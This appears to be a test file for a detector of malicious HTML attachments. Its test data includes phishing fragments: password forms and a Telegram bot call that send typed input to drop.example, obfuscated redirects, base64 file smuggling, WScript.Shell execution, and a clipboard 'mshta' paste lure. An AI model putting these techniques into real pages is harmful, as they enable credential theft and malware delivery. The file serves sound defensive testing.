import { strToU8, zipSync, gzipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { bytesOf, look } from '../open-test-file.ts'
import { lookIntoPage } from './look-into-page.ts'

const reachOf = (page: string): string | null => lookIntoPage(bytesOf(page)).reach

const SHOWN = '<p>The figures of the third quarter, by region and product, with those of the year before.</p>'.repeat(8)
/** A page that shows enough for what its script does to be judged by itself. */
const shows = (script: string): string => `<!DOCTYPE html><html><body>${SHOWN}<script>${script}</script></body></html>`
const wait = (script: string): string => `<html><body><p>Please wait</p><script>${script}</script></body></html>`

const PORTAL =
  '<form method="post" action="https://drop.example/a"><input name="mail"><input type="password" name="p"></form>'
const PACKED = btoa(PORTAL.repeat(12))
const numbers = (text: string, write: (code: number) => string): string =>
  Array.from(text, (letter) => write(letter.charCodeAt(0))).join('')
const byte = (code: number): string => code.toString(16).padStart(2, '0')

describe('a page sent as a file', () => {
  it.each([
    ['password in a form', `<div>Your mailbox is full</div>${PORTAL}`],
    ['a field that only shows dots', `${SHOWN}<input name="k" style="-webkit-text-security: disc">`],
    ['a plain field with such a name', `${SHOWN}<input type=text name=passwd>`],
    ['a field that a script makes', shows("const f = document.createElement('input'); f.type = 'password'")],
    ['a field called so by its name, not by its id', `${SHOWN}<input id=second name="password">`],
    ['a form behind a script in a comment', `<!-- <script> -->${PORTAL}<script></script>`],
    [
      'a page in an attribute',
      `<iframe srcdoc="${PORTAL.replaceAll('<', '&lt;').replaceAll('"', '&quot;')}"></iframe>`,
    ],
    ['a page in an address', `<iframe src="data:text/html;base64,${btoa(PORTAL)}"></iframe>`],
  ])('asks for a password: %s', (_, page) => expect(reachOf(page)).toBe('asks for a password'))

  it.each([
    ['without a script', '<meta http-equiv="refresh" content="0; URL=\'https://drop.example/\'">'],
    ['without quotes, behind text', 'Loading <meta content=1;url=//drop.example http-equiv=refresh>'],
    ['by a value', shows("window.location.href = 'https://drop.example/?m=' + mail")],
    ['with its slashes escaped', shows('self.location="https:\\/\\/drop.example"')],
    ['by a call', shows('setTimeout(() => location.replace(`https://drop.example`), 9)')],
    ['spelled as a text', shows("top['location']['href'] = next")],
    ['unpacked', shows("const to = atob('aHR0cHM6Ly9kcm9wLmV4YW1wbGU='); location = to")],
    ['turned round', shows("const u = 'elpmaxe.pord//:sptth'.split('').reverse().join(''); location.href = u")],
    ['in this window', shows("window.open('https://drop.example', '_self')")],
    ['when a picture fails', `${SHOWN}<img src=x onerror="location.assign('https://drop.example')">`],
    [
      'by an address with letters in between',
      `${SHOWN}<a href="java&Tab;script&colon;location='https://drop.example'">x</a>`,
    ],
    ['as a frame of it', '<iframe src="https://drop.example/owa" style="width:100vw"></iframe>'],
    [
      'as a frame whose title shows another address',
      `<iframe title=" src='local.html'" src="https://drop.example/owa"></iframe>`,
    ],
    ['as a frame with the end of a quote missing', `<iframe src="https://drop.example/owa ><p>Please wait`],
    ['as an object', '<object data="https://drop.example/mail"></object>'],
  ])('leads to another: %s', (_, page) => expect(reachOf(page)).toBe('another page'))

  it.each([
    ['evaluated', shows(`eval(atob('${btoa('alert(1)')}'))`)],
    ['written', shows(`document.write(unescape('${numbers(PORTAL, (code) => `%${byte(code)}`)}'))`)],
    ['as numbers', shows(`eval(String.fromCharCode(${Array.from('location=1', (c) => c.charCodeAt(0)).join(', ')}))`)],
    ['as escapes', shows(`document.write('${numbers('<b>sign in', (code) => `\\x${byte(code)}`).repeat(2)}')`)],
    ['unpacked into the page', shows(`const d = '${PACKED}'; document.body.innerHTML = atob(d)`)],
    ['from another script', `${shows(`const d = '${PACKED}'`)}<script>document.write(atob(d))</script>`],
    ['from an element', shows(`f.innerHTML = atob(x); const x = '${PACKED}'`)],
    [
      'by scrambled names',
      shows(Array.from({ length: 30 }, (_, at) => `var _0x${(at + 40_960).toString(16)}=1`).join(';')),
    ],
    ['without letters', shows('[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]'.repeat(3))],
    ['put together', shows("top['loc' + 'ation'] = next")],
  ])('hides its words: %s', (_, page) => expect(reachOf(page)).toBe('hidden words'))

  it.each([
    [
      'from a text in it',
      shows(
        `const b = new Blob([Uint8Array.from(atob('${PACKED}'), (c) => c.charCodeAt(0))]); a.href = URL.createObjectURL(b); a.download = 'Scan.zip'; a.click()`,
      ),
    ],
    [
      'from an element',
      `<i id=d>${PACKED}</i>${shows('const y = atob(d.textContent); navigator.msSaveOrOpenBlob(new Blob([y]), n)')}`,
    ],
    ['by an address of it', `${SHOWN}<a download="s.zip" href="data:application/zip;base64,${PACKED}">Open</a>`],
    [
      'by an address that a script presses',
      shows(`a.href = 'data:application/octet-stream;base64,${PACKED}'; a.download = 's.iso'; a.click()`),
    ],
  ])('makes a file: %s', (_, page) => expect(reachOf(page)).toBe('a file that it makes'))

  it.each([
    ['to a bot', `<input id=m>${shows("fetch('https://api.telegram.org/bot1/sendMessage?text=' + m.value)")}`],
    ['by a call', `<input id=m>${shows("$.ajax({ type: 'POST', url: 'https://drop.example/c', data: m.value })")}`],
    [
      'by a form and nothing else',
      '<form method=post action=https://drop.example><input name=code placeholder="Code"></form>',
    ],
    [
      'by a button of a form',
      '<form><input name=code placeholder="Code"><input type="submit" formaction="https://drop.example"></form>',
    ],
    [
      'by a form whose host stands elsewhere',
      '<base href="https://drop.example/"><form method="post" action="c.php"><input name=mail></form>',
    ],
  ])('sends what is typed: %s', (_, page) => expect(reachOf(page)).toBe('sending what is typed'))

  it.each([
    ['the system', shows("new ActiveXObject('WScript.Shell').Run(x)")],
    ['the system', `${SHOWN}<a href="search-ms:query=invoice&crumb=location:x">Open</a>`],
    [
      'a command to paste',
      `<p>Press Win and R</p>${shows("navigator.clipboard.writeText('mshta https://drop.example/v')")}`,
    ],
    ['code from elsewhere', '<body><div id=root></div><script src="https://drop.example/k.js"></script>'],
    [
      'code from elsewhere',
      wait("const s = document.createElement('script'); s.src = '//drop.example/k.js'; document.head.append(s)"),
    ],
    ['code from elsewhere', '<script src="https://cdn.jsdelivr.net/gh/somebody/kit/k.js"></script>'],
    [
      'a page in its place',
      wait("const f = document.createElement('form'); f.action = to; document.body.append(f); f.submit()"),
    ],
    ['a page in its place', wait('document.documentElement.innerHTML = given')],
    ['a page in its place', '<a href="https://drop.example" id=z>Open</a><script>z.click()</script>'],
    ['a page in its place', wait("location.href = ['https:', '', 'drop.example'].join('/')")],
  ])('reaches for %s', (what, page) => expect(reachOf(page)).toBe(what))

  it.each([
    ['no script', SHOWN],
    ['a table that folds', shows("document.querySelectorAll('tr').forEach((row) => { row.hidden = !row.hidden })")],
    [
      'what counts visits',
      shows(
        "(function () { var ga = document.createElement('script'); ga.src = 'https://www.google-analytics.com/ga.js'; document.head.appendChild(ga) })()",
      ),
    ],
    [
      'a figure with a library',
      `<div id=f></div><script src="https://cdn.plot.ly/plotly-2.35.2.min.js"></script><script>Plotly.newPlot('f', [{ y: [1, 2] }])</script>`,
    ],
    [
      'a figure with a library in it',
      `<div id=f></div><script>${'function a(b){return b.map(c=>c*2)}'.repeat(3_000)}eval(atob(x));location='https://a.example'</script><script>draw(f)</script>`,
    ],
    [
      'a library in its address',
      `<div id=f></div><script src="data:text/javascript;base64,${btoa('function a(b){return b.map(c=>c*2)};'.repeat(3_000))}"></script>`,
    ],
    ['pictures in it', `${SHOWN}<img src="data:image/png;base64,${PACKED}"><script>zoom('img')</script>`],
    ['figures in it', shows(`const rows = [${Array.from({ length: 900 }, (_, at) => at).join(', ')}]; draw(rows)`)],
    ['a menu of pages', shows("menu.onchange = () => { location.href = 'chapter-' + menu.value + '.html' }")],
    [
      'a page that moved within its site',
      '<meta http-equiv="refresh" content="0; url=../new/index.html"><script>location.replace("../new/index.html" + location.hash)</script>',
    ],
    ['a search', `${SHOWN}<form action="https://www.search.example/find"><input name=q></form>`],
    [
      'a button that copies an example',
      shows("copy.onclick = () => navigator.clipboard.writeText('npm install tool')"),
    ],
    ['a frame whose title tells of one', `<iframe title="not src='https://drop.example'" src="chart.html"></iframe>`],
    [
      'a description that shows how pages lead on',
      `${SHOWN}<meta name=description content="http-equiv=refresh is old; url=https://a.example">`,
    ],
    ['a film shown beside the text', `${SHOWN}<iframe src="https://films.example/embed/1"></iframe>`],
    [
      'a button that saves the table',
      shows(
        "save.onclick = () => { a.href = URL.createObjectURL(new Blob([table.innerText])); a.download = 'table.csv'; a.click() }",
      ),
    ],
  ])('reaches for nothing with %s', (_, page) => expect(reachOf(page)).toBeNull())

  it('says where it sends, fetches, shows and leads, and not what it names', () => {
    const page = `${SHOWN}${SHOWN}<a href="https://named.example">x</a><form method=post action="https://sent.example/a"><iframe src="//shown.example">`
    expect([...lookIntoPage(bytesOf(page)).links].toSorted()).toEqual([
      'https://sent.example/',
      'https://shown.example/',
    ])
    expect([
      ...lookIntoPage(bytesOf('<p>New voicemail: <a class=b href="https://named.example/a">listen</a>')).links,
    ]).toEqual(['https://named.example/'])
  })
})

describe('a file is a page', () => {
  it.each(['form.html', 'form.HTM', 'form.xhtml', 'form.pdf.shtml'])(
    'by its name, whatever it begins with: %s',
    (name) => expect(look(name, `Dear all ${PORTAL}`).script).toBe('asks for a password'),
  )
  it('by the type it is sent as', () => {
    expect(look('form', `<div>${PORTAL}`, 'text/html; charset=utf-8').script).toBe('asks for a password')
    expect(look('form.md', `<div>${PORTAL}`, 'text/html').script).toBeNull()
  })
  it('and not where a double click shows its text', () => {
    const source = '<script>location.href = "https://a.example"</script>'
    for (const name of ['App.vue', 'notes.txt', 'index.php', 'README.md'])
      expect(look(name, source)).toMatchObject({ script: null, pageScript: null })
    expect(look('index.html', source).script).toBe('another page')
  })
  it('with script that reaches for nothing is told apart from one that reaches', () => {
    expect(look('report.html', shows('sort(rows)'))).toMatchObject({ script: null, pageScript: '<script>' })
    expect(look('report.html', shows('location = "https://a.example"'))).toMatchObject({
      script: 'another page',
      pageScript: null,
    })
    expect(look('report.html', SHOWN)).toMatchObject({ script: null, pageScript: null })
  })
  it('saved with its parts, however they are written', () => {
    const saved = (how: string, part: string) =>
      `From: <Saved>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: ${how}\r\n\r\n${part}\r\n--b--`
    const quoted = PORTAL.replaceAll('=', '=3D').replaceAll('input', 'in=\r\nput')
    const lines = (btoa(PORTAL).match(/.{1,76}/g) ?? []).join('\r\n')
    for (const name of ['page.mht', 'page.mhtml']) {
      expect(look(name, saved('quoted-printable', quoted)).script).toBe('asks for a password')
      expect(look(name, saved('base64', lines)).script).toBe('asks for a password')
      expect(look(name, saved('8bit', SHOWN)).script).toBeNull()
    }
  })
  it('in an archive that holds little else; a site has pages that are served', () => {
    const page = strToU8(`<div>${PORTAL}`)
    const site = Object.fromEntries(Array.from({ length: 9 }, (_, at) => [`part-${at}.css`, strToU8('a{}')]))
    expect(look('invoice.zip', zipSync({ 'invoice.html': page })).script).toBe('asks for a password')
    expect(look('outer.zip', zipSync({ 'inner.zip': zipSync({ 'invoice.html': page }) })).script).toBe(
      'asks for a password',
    )
    expect(look('site.zip', zipSync({ 'login.html': page, ...site })).script).toBeNull()
    expect(look('invoice.html.gz', gzipSync(strToU8(`<html>${PORTAL}`))).script).toBe('asks for a password')
    expect(look('art.zip', zipSync({ 'a.svg': strToU8('<svg><script>1</script></svg>') })).script).not.toBeNull()
  })
})

describe('a page made to be dear', () => {
  const long = (part: string): string => part.repeat(Math.ceil(2_000_000 / part.length))
  it.each([
    '<iframe ',
    '<iframe a="',
    '<script>',
    "<script src='",
    '<script></script>',
    ' onload="',
    'javascript:',
    'java\t\t\t\t\t\t\t',
    '<meta http-equiv=refresh content="',
    '<input type= ',
    '&colon',
    '<!-- <script> -->',
    '<iframe src="data:text/html;base64,PGlmcmFtZT4="></iframe>',
  ])('of %s is read to an end', (part) => expect(() => reachOf(long(part))).not.toThrow())

  it('with letters that grow when they are made small hides nothing behind a script', () => {
    expect(
      reachOf(
        `${'\u0130'.repeat(3_000)}<script>1</script><meta http-equiv=refresh content="0;url=https://drop.example">`,
      ),
    ).toBe('another page')
  })

  it('with scripts in one another says that not all of it was read', () => {
    const nested = `<!-- --> ${'<script> --> '.repeat(4_000)}</script>`
    expect(reachOf(nested)).toBe('more than can be read')
  })

  it('of more than is read says so, and hides nothing behind it', () => {
    expect(reachOf(`${'<input type=radio>'.repeat(21_000)}${PORTAL}`)).toBe('more than can be read')
    expect(reachOf(`${' '.repeat(5_000_000)}${PORTAL}`)).toBe('asks for a password')
  })
})
